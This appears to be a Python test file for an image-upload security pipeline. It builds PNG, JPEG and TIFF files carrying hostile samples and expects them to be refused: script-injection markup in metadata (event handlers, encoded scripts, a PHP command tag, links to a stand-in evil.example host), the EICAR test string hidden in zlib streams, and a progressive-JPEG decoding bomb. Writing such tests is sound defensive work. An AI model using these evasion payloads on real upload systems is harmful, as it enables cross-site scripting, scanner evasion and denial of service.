"""What the checks still missed when the platform was tried as an attacker (issue 10): markup that is not a
<script> tag, malware inside zlib streams the scanner cannot open, a progressive JPEG whose passes take minutes to
decode, and sizes and names worded wrongly."""

import zlib

from PIL import Image

from inspiracle.pipeline.tests.hostile.builders import (
    EICAR,
    MALWARE_TEST_MARKER,
    encode,
    jpeg_with,
    png_chunk,
    png_with,
    progressive_scan_bomb,
)
from inspiracle.pipeline.tests.hostile.case import Case, Samples, no, ok

HIDDEN = "hidden_content"


def markup_cases(s: Samples) -> list[Case]:
    """Markup that runs or loads something, in the text a page might show: a PNG tEXt chunk or a JPEG COM
    segment. Each passed before."""

    def text(payload: bytes) -> bytes:
        return png_with(s.png, png_chunk(b"tEXt", b"Comment\x00" + payload))

    def comment(payload: bytes) -> bytes:
        return jpeg_with(s.jpeg, 0xFE, payload)

    itxt = b"Comment\x00\x01\x00en\x00\x00" + zlib.compress(b'<body onload="alert(1)">')
    return [
        no("png-onerror-in-text", "x.png", text(b"<img src=x onerror=alert(1)>"), HIDDEN, "onerror= handler"),
        no(
            "jpeg-onload-in-comment", "x.jpg", comment(b'<body onload="alert(1)">'), HIDDEN, "onload= handler"
        ),
        no("png-object-in-text", "x.png", text(b'<object data="//evil.example/x">'), HIDDEN, "<object"),
        no("jpeg-embed-in-comment", "x.jpg", comment(b"<embed src=//evil.example/x>"), HIDDEN, "<embed"),
        no(
            "png-meta-refresh-in-text",
            "x.png",
            text(b'<meta http-equiv="refresh" content="0;url=//evil.example">'),
            HIDDEN,
            "<meta http-equiv",
        ),
        no(
            "jpeg-xml-stylesheet-in-comment",
            "x.jpg",
            comment(b'<?xml-stylesheet type="text/xsl" href="//evil.example/x.xsl"?>'),
            HIDDEN,
            "<?xml-stylesheet",
        ),
        no(
            "png-utf16-script-in-text",
            "x.png",
            text("<script>alert(1)</script>".encode("utf-16-le")),
            HIDDEN,
            "a script in UTF-16 (little-endian)",
        ),
        no(
            "jpeg-utf16-script-in-comment",
            "x.jpg",
            comment("<script>alert(1)</script>".encode("utf-16")),
            HIDDEN,
            "a script in UTF-16 with a byte-order mark",
        ),
        no(
            "png-entity-script-in-text",
            "x.png",
            text(b"&lt;script&gt;alert(1)&lt;/script&gt;"),
            HIDDEN,
            "a script written with named entities",
        ),
        no(
            "jpeg-numeric-entity-script-in-comment",
            "x.jpg",
            comment(b"&#60;script&#62;alert(1)&#60;/script&#62;"),
            HIDDEN,
            "a script written with numeric entities",
        ),
        no("png-php-short-echo-in-text", "x.png", text(b"<?= `id` ?>"), HIDDEN, "PHP's short echo tag <?="),
        no(
            "png-onload-in-compressed-itxt",
            "x.png",
            png_with(s.png, png_chunk(b"iTXt", itxt)),
            HIDDEN,
            "an event handler seen only once a compressed iTXt chunk is inflated",
        ),
        ok(
            "png-text-about-loading",
            "talk.png",
            text(b"Slides: on error handling, online loading, objects and embeddings <3"),
            "ordinary words that contain the patterns' letters, but no markup",
        ),
    ]


def packed_malware_cases(s: Samples) -> list[Case]:
    """Malware in zlib streams that clamd does not open by itself: refused by the scan of the inflated streams."""
    itxt = b"Comment\x00\x01\x00en\x00\x00" + zlib.compress(EICAR)
    strip = encode(Image.frombytes("L", (17, 4), EICAR), "TIFF", compression="tiff_adobe_deflate")
    return [
        no(
            "eicar-in-png-ztxt",
            "eicar.png",
            png_with(s.png, png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(EICAR))),
            "malware",
            "EICAR deflated in a zTXt chunk",
        ),
        no(
            "eicar-in-png-compressed-itxt",
            "eicar.png",
            png_with(s.png, png_chunk(b"iTXt", itxt)),
            "malware",
            "EICAR deflated in a compressed iTXt chunk",
        ),
        no(
            "marker-in-png-iccp",
            "icc.png",
            png_with(
                s.png, png_chunk(b"iCCP", b"ICC\x00\x00" + zlib.compress(b"icc " + MALWARE_TEST_MARKER))
            ),
            "malware",
            "the test marker deflated in an ICC profile",
        ),
        no(
            "eicar-in-deflated-tiff-strip",
            "eicar.tif",
            strip,
            "malware",
            "EICAR as the pixels of a 17 x 4 greyscale TIFF, its strip deflated",
        ),
    ]


def scan_bomb_cases() -> list[Case]:
    """A progressive JPEG's passes (scans) each make the decoder walk the whole picture again."""
    return [
        no(
            "jpeg-600-scans",
            "passes.jpg",
            progressive_scan_bomb(64, 64, 600),
            "too_many_scans",
            "bomb: 600 progressive scans in 7 KB (the real one: 20,000 scans over 7000 x 7000, minutes to decode)",
        ),
        ok(
            "jpeg-500-scans",
            "passes.jpg",
            progressive_scan_bomb(64, 64, 500),
            "500 scans, libjpeg-turbo's limit",
        ),
    ]


def size_cases(s: Samples) -> list[Case]:
    return [
        no("one-byte", "a.jpg", b"a", "too_small", '1 byte: too small for any image, not "plain text"'),
        no(
            "one-byte-over-the-limit",
            "big.png",
            s.png + bytes(100 * 1024 + 1 - len(s.png)),
            "too_large",
            "100 KB and 1 byte against a 100 KB limit: both sizes must read differently",
            max_bytes=100 * 1024,
        ),
    ]
